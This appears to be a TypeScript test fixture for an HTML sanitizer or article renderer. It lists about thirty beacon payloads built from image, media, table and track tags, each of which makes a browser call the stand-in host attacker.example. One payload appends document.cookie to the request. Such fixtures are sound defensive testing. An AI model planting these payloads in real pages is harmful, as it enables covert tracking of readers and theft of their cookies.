import { toAttacks, type Attack } from './attack.ts'

const host = 'https://attacker.example'

/** Ways to tell another host that the article is open. Runs that use these have pictures switched off. */
export const beaconAttacks: Attack[] = toAttacks(
  { family: 'beacons', bites: 'request' },
  {
    'plain picture': `<img src=${host}/a.png>`,
    'picture without scheme': '<img src=//attacker.example/b.png>',
    'picture behind a backslash': '<img src="/\\attacker.example/c.png">',
    'picture over http': '<img src=http://attacker.example/d.png>',
    pixel: `<img src=${host}/e.gif width=1 height=1>`,
    'pixel by style': `<img src=${host}/f.gif style="width:1px;height:1px">`,
    'picture from a set': `<img srcset="${host}/g.png 1x, ${host}/g2.png 2x">`,
    'picture from a sized set': `<img srcset="${host}/h.png 100w" sizes=100vw>`,
    'picture from a source': `<picture><source srcset=${host}/i.webp><img src=data:,></picture>`,
    'picture from a source for this screen': `<picture><source media=all srcset=${host}/j.png><img></picture>`,
    'picture with credentials': `<img crossorigin=use-credentials src=${host}/k.png>`,
    'picture that is eager': `<img loading=eager fetchpriority=high src=${host}/l.png>`,
    'misspelled picture': `<image src=${host}/m.png>`,
    'picture of a field': `<input type=image src=${host}/n.png>`,
    'picture of a table': `<table background=${host}/o.png><tr><td>x</table>`,
    'picture of a cell': `<table><tr><td background=${host}/p.png>x</table>`,
    'picture of a video': `<video poster=${host}/q.png></video>`,
    video: `<video src=${host}/r.mp4 preload=auto></video>`,
    'video that plays by itself': `<video autoplay muted src=${host}/s.mp4></video>`,
    'video from a source': `<video preload=auto><source src=${host}/t.mp4 type=video/mp4></video>`,
    sound: `<audio controls src=${host}/u.mp3></audio>`,
    'sound that plays by itself': `<audio autoplay src=${host}/v.mp3></audio>`,
    'sound from a source': `<audio controls><source src=${host}/w.mp3></audio>`,
    'captions of a video': `<video src="data:video/mp4;base64,AAAA" crossorigin><track default kind=captions src=${host}/x.vtt></video>`,
    'picture with a query of secrets': `<img src="${host}/y.png?c='+document.cookie+'">`,
    'picture in a list of choices': `<div><img alt="" src=${host}/z.png></div>`,
    'picture with a referrer': `<img referrerpolicy=unsafe-url src=${host}/aa.png>`,
    'picture reported by an attribution': `<img attributionsrc=${host}/ab src=${host}/ac.png>`,
  },
)
